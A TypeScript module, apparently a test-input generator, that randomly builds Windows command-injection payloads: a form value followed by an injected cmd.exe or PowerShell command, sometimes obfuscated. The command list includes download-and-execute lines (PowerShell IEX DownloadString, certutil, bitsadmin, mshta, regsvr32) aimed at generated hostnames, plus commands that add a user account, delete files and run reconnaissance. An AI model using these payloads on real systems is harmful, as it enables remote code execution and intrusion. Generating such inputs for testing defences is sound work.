import type { Random } from "../random.ts"
import { windowsFile } from "./files.ts"
import { type Grammar, hostName, identifier, ipAddress, mixCase, oneOf } from "./grammar.ts"

/** Another command for cmd.exe or PowerShell after a value, from their documentation. */
export function windowsInjection(random: Random): string {
  const command = oneOf(random, WINDOWS_COMMANDS)
  const disguised = oneOf(random, [
    () => command,
    () => command,
    () => mixCase(random, command),
    (r) => command.replace(/^[a-z]+/i, (word) => insertPiece(r, word, r.pick(["^", '""', "^"]))),
    () => command.replaceAll(" ", "%20"),
  ])
  const joint = random.pick([
    "&",
    "&&",
    "|",
    "||",
    "& ",
    " & ",
    " && ",
    " | ",
    "%26",
    "%7c",
    "\n",
    ";",
    "%0a",
  ])
  return `${hostValue(random)}${random.pick(["", "", '"', "'"])}${joint}${disguised}${random.pick(["", "", "&", " &", "|", "'", '"'])}`
}

const POWERSHELL: Grammar = (r) =>
  `${r.pick(["powershell", "powershell.exe", "pwsh"])} ${r.pick(["-nop ", "-w hidden ", "-ep bypass ", ""])}${r.pick(
    [
      `-enc ${btoa(identifier(r) + identifier(r) + identifier(r))}`,
      `-c "IEX(New-Object Net.WebClient).DownloadString('http://${hostName(r)}/${identifier(r)}.ps1')"`,
      `Invoke-WebRequest http://${hostName(r)}/${identifier(r)}.exe -OutFile x.exe`,
      `-Command "${r.pick(["Get-Process", "Get-ChildItem C:\\", "whoami", "Start-Sleep -s 10"])}"`,
      `Get-Content ${windowsFile(r)}`,
    ],
  )}`

const WINDOWS_COMMANDS: readonly Grammar[] = [
  (r) => `dir${r.pick(["", " c:\\", " /s", " C:\\Users", " c:\\inetpub"])}`,
  (r) => `type ${windowsFile(r)}`,
  (r) => `ping -n ${r.between(1, 30)} ${r.pick(["127.0.0.1", ipAddress(r), hostName(r)])}`,
  (r) =>
    r.pick([
      "ipconfig",
      "ipconfig /all",
      "whoami",
      "whoami /all",
      "systeminfo",
      "tasklist",
      "net user",
      "net localgroup administrators",
      "netstat -ano",
      "ver",
      "set",
      "hostname",
      "wmic process list",
      "query user",
      "arp -a",
      "route print",
    ]),
  (r) => `net user ${identifier(r)} ${identifier(r)} /add`,
  (r) =>
    `cmd${r.pick(["", ".exe"])} /c ${r.pick(["dir", "whoami", `type ${windowsFile(r)}`, "ver", "echo x"])}`,
  POWERSHELL,
  POWERSHELL,
  (r) => `certutil -urlcache -split -f http://${hostName(r)}/${identifier(r)}.exe`,
  (r) => `bitsadmin /transfer ${identifier(r)} http://${hostName(r)}/x.exe c:\\x.exe`,
  (r) =>
    `${r.pick(["mshta", "regsvr32 /s /n /u /i:", "rundll32"])} http://${hostName(r)}/${identifier(r)}.${r.pick(["hta", "sct", "dll"])}`,
  (r) => `timeout ${r.pick(["/t ", "-T ", ""])}${r.between(1, 30)}`,
  (r) => `nslookup ${identifier(r)}.${hostName(r)}`,
  (r) => `echo ${identifier(r)} > ${r.pick(["c:\\", "%TEMP%\\", ""])}${identifier(r)}.txt`,
  (r) => `reg query HKLM\\Software\\${identifier(r)}`,
  (r) => `del ${r.pick(["/q ", "/f ", ""])}${windowsFile(r)}`,
  (r) => `start ${r.pick(["calc", "calc.exe", "notepad.exe", `http://${hostName(r)}`])}`,
]

/** What a form that pings, looks up or converts would be given. */
export function hostValue(random: Random): string {
  return oneOf(random, [
    () => "",
    () => "",
    ipAddress,
    hostName,
    identifier,
    () => "127.0.0.1",
    () => "localhost",
    (r) => String(r.below(1000)),
    (r) => `${identifier(r)}.${r.pick(["txt", "jpg", "pdf", "png", "zip"])}`,
    (r) => `${identifier(r)}@${hostName(r)}`,
    (r) => `http://${hostName(r)}/`,
  ])
}

/** The word with `piece` somewhere inside. */
export function insertPiece(random: Random, word: string, piece: string): string {
  const at = random.between(1, Math.max(1, word.length - 1))
  return `${word.slice(0, at)}${piece}${word.slice(at)}`
}
